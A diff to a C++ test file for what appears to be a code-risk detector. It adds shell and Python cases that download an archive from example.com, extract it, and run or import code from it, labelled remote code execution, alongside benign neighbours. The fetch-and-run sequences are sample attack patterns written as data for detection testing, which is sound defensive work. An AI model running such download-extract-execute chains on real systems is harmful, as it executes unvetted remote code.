@@ -1,9 +1,10 @@
 // The classes the tenth round modelled (issue 14), found in the realworld
 // corpus's fifth batch (public code this team did not write): an archive
 // downloaded, extracted and a file from it run (a miner's installer: curl -O
-// of a zip, unzip, cd into it, node index.js) and CPU-coin mining pools named
-// without the stratum scheme. Each attack has a benign neighbour that must
-// stay where the rubric puts it. Strings here are never executed.
+// of a zip, unzip, cd into it, node index.js; the same in Python through
+// zipfile/tarfile opened by name) and CPU-coin mining pools named without the
+// stratum scheme. Each attack has a benign neighbour that must stay where the
+// rubric puts it. Strings here are never executed.
 #include "test_util.hpp"
 
 namespace mai::assess::test {
@@ -26,8 +27,9 @@ TEST(TenthRoundClasses, FilesFromAnExtractedDownloadRunTheDownload) {
        "curl -L -o p.zip https://example.com/x/p.zip\nunzip p.zip -d pkg\npython3 pkg/setup_hook.py\n",
        "REMOTE-CODE-EXECUTION", kSh},
       // Benign neighbours: a downloaded data archive beside the code's own
-      // scripts (only the archive's directory holds downloaded files), and a
-      // vendored archive (not a download) extracted and run.
+      // scripts (only the archive's directory holds downloaded files), a
+      // toolchain put on PATH (a bare command name is a PATH lookup, not a
+      // file in the tree), and a vendored archive (not a download).
       {"a data archive downloaded and extracted; the code's own scripts run", L,
        "curl -L -o data.zip https://example.com/x/data.zip\nunzip data.zip\npython3 train.py --data data/\n"
        "./run_eval.sh\n",
@@ -36,8 +38,33 @@ TEST(TenthRoundClasses, FilesFromAnExtractedDownloadRunTheDownload) {
        "mkdir -p ~/tools\ncd ~/tools\nwget https://example.com/x/cross.tgz\ntar -xvf cross.tgz\ncd cross/bin\n"
        "export PATH=$(pwd):$PATH\ncd ~/tools\nls\n",
        nullptr, kSh},
-      {"a vendored archive extracted and run", L,
-       "cp ./vendor/tool.zip .\nunzip tool.zip\nnode tool/index.js\n", nullptr, kSh},
+      {"a vendored archive extracted and run", L, "cp ./vendor/tool.zip .\nunzip tool.zip\nnode tool/index.js\n",
+       nullptr, kSh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// The same in Python: an archive opened by the name a download was saved
+// under holds the download, and extractall(dir) writes it under dir.
+TEST(TenthRoundClasses, PythonArchivesOpenedByNameHoldTheirDownload) {
+  const Case cases[] = {
+      {"zip downloaded, extracted, a script from it run", B,
+       "import urllib.request, zipfile, subprocess\n"
+       "urllib.request.urlretrieve('https://example.com/t.zip', 't.zip')\n"
+       "zipfile.ZipFile('t.zip').extractall('tool')\nsubprocess.run(['node', 'tool/index.js'])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"tarball downloaded, extracted, put on sys.path and imported", B,
+       "import urllib.request, tarfile, sys, importlib\n"
+       "urllib.request.urlretrieve('https://example.com/t.tgz', 't.tgz')\n"
+       "tarfile.open('t.tgz').extractall('plug', filter='data')\nsys.path.insert(0, 'plug')\n"
+       "importlib.import_module('plugin_x')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a data archive downloaded and extracted; the code's own scripts run (processes: MEDIUM)", M,
+       "import urllib.request, zipfile, subprocess\n"
+       "urllib.request.urlretrieve('https://example.com/d.zip', 'd.zip')\n"
+       "zipfile.ZipFile('d.zip').extractall('data')\n"
+       "subprocess.run(['python3', 'train.py', '--data', 'data'])\nsubprocess.run(['python3', 'scripts/eval.py'])\n",
+       "RUNS-PROCESS"},
   };
   for (const auto& c : cases) check(c);
 }
